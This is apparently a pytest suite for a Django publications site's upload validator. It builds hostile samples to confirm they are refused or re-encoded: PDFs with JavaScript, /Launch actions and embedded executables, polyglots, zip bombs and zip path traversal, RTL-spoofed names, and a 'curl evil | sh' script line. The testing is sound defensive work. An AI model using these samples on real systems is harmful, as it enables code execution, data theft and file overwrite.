"""One test per hostile kind of publication file: each is refused with its own reason and
leaves nothing on disk, or is stored only once made harmless (images re-encoded)."""

import hashlib
import io
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from publications import services
from publications.models import Publication
from publications.uploads import inspect_upload
from tests.publications.factories import (
    EXE,
    HTML,
    SVG,
    PublicationFactory,
    image_bytes,
    pdf_bytes,
    png_bomb,
    zip_bytes,
)

GPS_IFD = 0x8825


@pytest.fixture(autouse=True)
def _english():
    translation.activate("en")


def _pdf(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_document_javascript() -> bytes:
    """Document-level JavaScript in the catalogue's name tree, run when the file opens."""

    def build(writer):
        action = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("app.alert('hi');"),
                }
            )
        )
        tree = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("startup"), action])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )

    return _pdf(build)


def pdf_with_open_action(kind: str) -> bytes:
    def build(writer):
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        if kind == "/Launch":
            action[NameObject("/F")] = TextStringObject("calc.exe")
        else:
            action[NameObject("/JS")] = TextStringObject("app.alert(1)")
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return _pdf(build)


def pdf_with_link_running_javascript() -> bytes:
    def build(writer):
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 100)]),
                NameObject("/A"): DictionaryObject(
                    {
                        NameObject("/S"): NameObject("/JavaScript"),
                        NameObject("/JS"): TextStringObject("this.exportDataObject()"),
                    }
                ),
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return _pdf(build)


def pdf_with_attachment() -> bytes:
    return _pdf(lambda writer: writer.add_attachment("tool.exe", EXE))


def pdf_with_escaped_name() -> bytes:
    """`/J#61vaScript` is `/JavaScript` to every reader; a plain text search misses it."""
    data = pdf_with_open_action("/JavaScript")
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def jpeg_with_gps_and_appended(payload: bytes) -> bytes:
    image = Image.new("RGB", (64, 48), "darkgreen")
    exif = Image.Exif()
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (13.0, 45.0, 0.0)
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, comment=b"secret comment")
    return buffer.getvalue() + payload


def png_with_appended_html() -> bytes:
    return image_bytes("PNG") + HTML


HOSTILE = [
    # (id, bytes, name, code, words in the message)
    ("pdf-javascript", pdf_with_document_javascript(), "a.pdf", "pdf_javascript", "JavaScript"),
    (
        "pdf-open-action-js",
        pdf_with_open_action("/JavaScript"),
        "a.pdf",
        "pdf_javascript",
        "JavaScript",
    ),
    (
        "pdf-launch",
        pdf_with_open_action("/Launch"),
        "a.pdf",
        "pdf_launch",
        "starts another program",
    ),
    ("pdf-link-js", pdf_with_link_running_javascript(), "a.pdf", "pdf_javascript", "JavaScript"),
    ("pdf-escaped-name", pdf_with_escaped_name(), "a.pdf", "pdf_javascript", "JavaScript"),
    ("pdf-attachment", pdf_with_attachment(), "a.pdf", "pdf_embedded", "attachments"),
    (
        "html-pdf-polyglot",
        b"<html><script>x</script></html>\n" + pdf_bytes(1),
        "a.pdf",
        "html",
        "web page",
    ),
    ("svg-as-png", SVG, "chart.png", "svg", "SVG"),
    ("html-as-docx", HTML, "report.docx", "html", "web page"),
    ("exe-as-pdf", EXE, "summary.pdf", "program", "program"),
    ("elf-as-xlsx", b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "figures.xlsx", "program", "program"),
    ("script-as-pdf", b"#!/bin/sh\ncurl evil | sh\n", "notes.pdf", "program", "script"),
    ("image-bomb", png_bomb(), "map.png", "image_too_large", "too large"),
    (
        "zip-bomb",
        zip_bytes({"big.pdf": b"%PDF-1.4\n" + b"\x00" * 20_000_000}),
        "b.zip",
        "zip_bomb",
        "unsafe",
    ),
    (
        "zip-many-entries",
        zip_bytes({f"{n}.pdf": b"%PDF" for n in range(2001)}),
        "b.zip",
        "zip_too_many",
        "too many",
    ),
    (
        "zip-traversal",
        zip_bytes({"../../etc/cron.d/x.pdf": pdf_bytes(1)}),
        "b.zip",
        "zip_path",
        "unsafe path",
    ),
    ("zip-with-exe", zip_bytes({"readme.pdf": EXE}), "b.zip", "zip_member", "program"),
    (
        "zip-with-pdf-javascript",
        zip_bytes({"a.pdf": pdf_with_open_action("/JavaScript")}),
        "b.zip",
        "zip_member",
        "JavaScript",
    ),
    (
        "rtl-override-name",
        pdf_bytes(1),
        "invoice\u202egpj.pdf",
        "unsafe_name",
        "control characters",
    ),
    ("nul-in-name", pdf_bytes(1), "report\x00.pdf", "unsafe_name", "control characters"),
    ("empty", b"", "empty.pdf", "empty", "empty"),
]


@pytest.mark.parametrize(
    ("data", "name", "code", "words"),
    [case[1:] for case in HOSTILE],
    ids=[case[0] for case in HOSTILE],
)
def test_each_hostile_kind_is_refused_with_its_own_reason(data, name, code, words):
    with pytest.raises(ValidationError) as info:
        inspect_upload(ContentFile(data, name=name))
    assert info.value.code == code
    assert words in " ".join(info.value.messages)


def test_an_ordinary_pdf_with_a_web_link_is_accepted():
    def build(writer):
        writer.add_uri(0, "https://example.org/", [0, 0, 100, 100])

    assert inspect_upload(ContentFile(_pdf(build), name="ok.pdf")).page_count == 1


# Django's upload parser already drops unprintable characters from a posted file name (the
# service refuses them for every other path); the zip bomb is left out only for speed.
THROUGH_SERVICES_ONLY = ("zip-bomb", "nul-in-name", "rtl-override-name")


@pytest.mark.django_db
def test_a_right_to_left_override_never_reaches_the_download_name(staff_client):
    upload = SimpleUploadedFile("invoice\u202egpj.pdf", pdf_bytes(1), "application/pdf")
    staff_client.post(
        "/admin/publications/publication/add/",
        {
            "title_en": "RTL",
            "kind": "manual",
            "year": "2567",
            "access": "public",
            "slug": "rtl",
            "status": "draft",
            "file": upload,
        },
    )
    publication = Publication.objects.get(slug="rtl")
    assert "\u202e" not in publication.original_filename
    assert publication.original_filename.endswith(".pdf")


@pytest.fixture
def staff_client(client, admin_user):
    client.force_login(admin_user)
    client.cookies["phakhi_language"] = "en"
    return client


def _files_under(*roots) -> list[Path]:
    return [
        p for root in roots if Path(root).exists() for p in Path(root).rglob("*") if p.is_file()
    ]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "name"),
    [case[1:3] for case in HOSTILE if case[0] not in THROUGH_SERVICES_ONLY],
    ids=[case[0] for case in HOSTILE if case[0] not in THROUGH_SERVICES_ONLY],
)
def test_a_refused_upload_through_the_admin_stores_nothing(staff_client, settings, data, name):
    upload = SimpleUploadedFile(name, data, "application/octet-stream")
    response = staff_client.post(
        "/admin/publications/publication/add/",
        {
            "title_en": "Hostile",
            "kind": "manual",
            "year": "2567",
            "access": "public",
            "slug": "hostile",
            "status": "draft",
            "file": upload,
        },
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["file"]
    assert not Publication.objects.exists()
    assert _files_under(settings.MEDIA_ROOT, settings.PROTECTED_MEDIA_ROOT) == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "name", "fmt", "smuggled"),
    [
        (png_with_appended_html(), "chart.png", "PNG", b"<script>"),
        (
            jpeg_with_gps_and_appended(zip_bytes({"x.pdf": pdf_bytes(1)})),
            "photo.jpg",
            "JPEG",
            b"PK\x03\x04",
        ),
        (jpeg_with_gps_and_appended(HTML), "photo.jpg", "JPEG", b"<html>"),
    ],
    ids=["png+html", "jpeg+gps+zip", "jpeg+gps+html"],
)
def test_image_files_are_stored_re_encoded_without_metadata_or_appended_data(
    data, name, fmt, smuggled
):
    publication = PublicationFactory()
    services.publication_attach_file(
        publication=publication, file=ContentFile(data, name=name), filename=name
    )
    publication.refresh_from_db()
    with publication.file.open("rb") as fh:
        stored = fh.read()
    assert smuggled not in stored
    assert b"secret comment" not in stored
    image = Image.open(io.BytesIO(stored))
    assert image.format == fmt
    assert not image.getexif().get_ifd(GPS_IFD)
    assert not image.getexif()
    # The facts describe what is stored, not what was sent.
    assert publication.file_size == len(stored)
    assert publication.sha256 == hashlib.sha256(stored).hexdigest()


@pytest.mark.django_db
def test_an_image_uploaded_through_the_admin_is_stored_re_encoded(staff_client):
    data = png_with_appended_html()
    upload = SimpleUploadedFile("chart.png", data, "image/png")
    response = staff_client.post(
        "/admin/publications/publication/add/",
        {
            "title_en": "Chart",
            "kind": "manual",
            "year": "2567",
            "access": "public",
            "slug": "chart",
            "status": "draft",
            "file": upload,
        },
    )
    assert response.status_code == 302
    publication = Publication.objects.get(slug="chart")
    with publication.file.open("rb") as fh:
        stored = fh.read()
    assert b"<script>" not in stored
    assert publication.sha256 == hashlib.sha256(stored).hexdigest()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name", ["../../etc/passwd.pdf", "..\\..\\windows\\win.ini.pdf", "/etc/x.pdf"]
)
def test_a_path_in_the_name_never_decides_where_the_file_goes(settings, name):
    publication = PublicationFactory()
    services.publication_attach_file(
        publication=publication, file=ContentFile(pdf_bytes(1), name=name), filename=name
    )
    stored = Path(publication.file.path).resolve()
    assert stored.is_relative_to(Path(settings.PROTECTED_MEDIA_ROOT).resolve())
    assert "/" not in publication.original_filename and "\\" not in publication.original_filename
    assert ".." not in publication.original_filename
